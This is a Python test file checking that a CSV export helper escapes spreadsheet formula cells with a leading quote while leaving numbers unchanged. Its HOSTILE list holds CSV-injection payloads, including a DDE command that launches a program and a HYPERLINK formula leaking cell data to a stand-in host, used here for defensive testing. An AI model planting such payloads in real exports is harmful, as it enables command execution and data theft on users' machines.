"""Tests of data.export_csv: downloaded CSV never carries a live spreadsheet formula."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlqa_debug.data.export_csv import FORMULA_PREFIXES, neutralise_formula, safe_csv, safe_frame

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def _read_back(text: str) -> pd.DataFrame:
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    frame = pd.DataFrame({"note": [cell, "plain"], "n": [1, 2]})
    back = _read_back(safe_csv(frame))
    assert back["note"].tolist() == ["'" + cell, "plain"]
    assert back["n"].tolist() == ["1", "2"]


def test_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {
            "int": [-3, 4],
            "float": [-0.5, 1e-9],
            "text_number": ["-3", "+4.5e2"],
            "nullable": pd.array([-1, None], dtype="Int64"),
            "flag": [True, False],
            "when": pd.to_datetime(["2024-01-01", "2024-01-02"]),
        }
    )
    assert safe_csv(frame) == frame.to_csv(index=False, lineterminator="\r\n")


def test_mixed_object_columns_prefix_only_text() -> None:
    frame = pd.DataFrame({"v": pd.Series([-1, "-1", "=1", None, "@x", "ok", np.nan], dtype=object)})
    out = safe_frame(frame)["v"].tolist()
    assert out[:3] == [-1, "-1", "'=1"] and out[3] is None
    assert out[4:6] == ["'@x", "ok"] and np.isnan(out[6])


def test_string_and_categorical_columns_names_and_index() -> None:
    frame = pd.DataFrame(
        {
            "=evil": pd.Series(["=a", "b"], dtype="string"),
            "cat": pd.Categorical(["+c", "d"]),
            "label": pd.Series(["-x", "y"], dtype="str"),
        }
    ).set_axis(pd.Index(["@i", "j"], name="id"))
    back = pd.read_csv(io.StringIO(safe_csv(frame, index=True)), dtype=str)
    assert list(back.columns) == ["id", "'=evil", "cat", "label"]
    assert back.iloc[0].tolist() == ["'@i", "'=a", "'+c", "'-x"]
    assert back.iloc[1].tolist() == ["j", "b", "d", "y"]


def test_a_series_and_repeated_column_names() -> None:
    assert _read_back(safe_csv(pd.Series(["=1", "a"], name="id")))["id"].tolist() == ["'=1", "a"]
    frame = pd.DataFrame([["=1", "=2"]], columns=["a", "a"])
    assert safe_csv(frame).splitlines()[1] == "'=1,'=2"


def test_the_frame_given_is_left_alone() -> None:
    frame = pd.DataFrame({"v": ["=1"]})
    safe_csv(frame)
    assert frame["v"].tolist() == ["=1"]


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    safe = neutralise_formula(text)
    assert isinstance(safe, str)
    assert not safe.startswith(FORMULA_PREFIXES) or float(safe) == float(text)
    assert safe in (text, "'" + text)
